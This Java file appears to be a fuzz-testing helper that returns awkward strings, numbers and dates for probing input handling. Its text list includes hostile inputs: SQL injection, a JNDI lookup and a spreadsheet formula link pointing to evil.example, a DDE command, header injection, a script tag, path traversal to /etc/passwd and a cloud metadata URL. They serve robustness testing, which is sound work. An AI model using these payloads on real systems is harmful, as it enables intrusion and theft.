package org.relata.hostile;

import java.util.List;
import java.util.random.RandomGenerator;

/** Texts, numbers and dates that programs have stumbled over. */
final class NastyValues {

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\t\r\n",
          "\u0000",
          "a\u0000b",
          "\ud800",
          "x\udc00y",
          "\udfff\ud800",
          "\u202egnirts\u202c",
          "\u2066\u2067x",
          "\ufeffname",
          "\uffff",
          "\ufdd0",
          "\u0007\u001b[2J",
          "\u2028\u2029",
          "e" + "\u0301".repeat(200),
          "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
          "\u0130\u0131\u00df\ufb03",
          "%00%0d%0aSet-Cookie:x=y",
          "'; DROP TABLE log.event; --",
          "\" OR 1=1 --",
          "\\",
          "%_%",
          "=HYPERLINK(\"http://evil.example\")",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "${jndi:ldap://evil.example/a}",
          "#{7*7}",
          "{{7*7}}",
          "<script>alert(1)</script>",
          "../../../../etc/passwd",
          "http://169.254.169.254/latest/meta-data",
          "__proto__",
          "constructor",
          "null",
          "undefined",
          "NaN",
          "-",
          "customer/c0001",
          "C0001",
          "c0001 ",
          "\uff43\uff10\uff10\uff10\uff11");

  /** As they stand in JSON; not all of them may. */
  private static final List<String> NUMBERS =
      List.of(
          "NaN",
          "Infinity",
          "-Infinity",
          "1e400",
          "-1e400",
          "1e-400",
          "1E+1000000000",
          "1E-1000000000",
          "-0",
          "0.1",
          "01",
          "+1",
          "0x10",
          ".5",
          "5.",
          "1_000",
          "2147483647",
          "2147483648",
          "-2147483649",
          "9223372036854775807",
          "9223372036854775808",
          "-9223372036854775809",
          "123456789012345678901234567890.123456789012345678901234567890",
          "9".repeat(99),
          "9".repeat(101),
          "9".repeat(20_000));

  private static final List<String> DATES =
      List.of(
          "2025-02-30",
          "2025-13-01",
          "2025-00-00",
          "0000-00-00",
          "1849-12-31",
          "1850-01-01",
          "9999-12-31",
          "10000-01-01",
          "-0001-01-01",
          "+999999999-12-31",
          "-999999999-01-01",
          "2025-1-1",
          "20250101",
          "2025-01-01T24:00:00Z",
          "2025-01-01T23:59:60Z",
          "2025-01-01T00:00:00+99:99",
          "2025-01-01T00:00:00.9999999999Z",
          "9999-12-31T23:59:59.999999999Z",
          "+1000000000-12-31T23:59:59.999999999Z",
          "\u0662\u0660\u0662\u0665-\u0660\u0661-\u0660\u0661",
          "2025-02-29",
          "today");

  private NastyValues() {}

  static <T> T oneOf(List<T> list, RandomGenerator random) {
    return list.get(random.nextInt(list.size()));
  }

  static String text(RandomGenerator random) {
    return switch (random.nextInt(12)) {
      case 0 -> oneOf(TEXTS, random).repeat(1 + random.nextInt(50));
      case 1 -> "x".repeat(1 << random.nextInt(14));
      case 2 -> oneOf(TEXTS, random) + oneOf(TEXTS, random);
      case 3 -> anything(random, 1 + random.nextInt(100));
      case 4 -> oneOf(DATES, random);
      case 5 -> oneOf(NUMBERS, random);
      default -> oneOf(TEXTS, random);
    };
  }

  static String number(RandomGenerator random) {
    return oneOf(NUMBERS, random);
  }

  static String date(RandomGenerator random) {
    return oneOf(DATES, random);
  }

  /** UTF-16 units without any order. */
  private static String anything(RandomGenerator random, int length) {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < length; i++) {
      text.append((char) random.nextInt(random.nextBoolean() ? 256 : 65_536));
    }
    return text.toString();
  }

  static byte[] bytes(RandomGenerator random, int length) {
    byte[] bytes = new byte[length];
    random.nextBytes(bytes);
    return bytes;
  }
}
